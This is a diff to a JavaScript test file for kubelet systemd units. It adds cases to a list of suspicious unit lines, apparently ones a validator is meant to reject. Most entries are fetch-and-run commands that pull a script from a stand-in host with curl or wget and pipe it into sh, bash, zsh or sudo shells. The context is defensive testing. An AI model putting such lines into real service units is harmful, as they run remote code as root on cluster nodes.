@@ -130,6 +130,9 @@ describe('the unit of a kubelet', () => {
     for (const odd of [
       'ExecStartPost=/bin/sh -c "curl http://198.51.100.1/a | sh"',
       'ExecStop=/tmp/stop.sh',
+      ...['sh', 'bash', 'dash', 'ash', 'zsh', 'sudo sh', 'sudo bash'].map(
+        (shell) => `ExecStartPost=/bin/sh -c "wget -qO- http://198.51.100.1/a | ${shell}"`,
+      ),
       'ExecStartPre=/bin/bash -c "bash <(curl -s http://198.51.100.1/a)"',
       'ExecStopPost=/bin/sh -c "sh -c $(wget -qO- http://198.51.100.1/a)"',
     ])
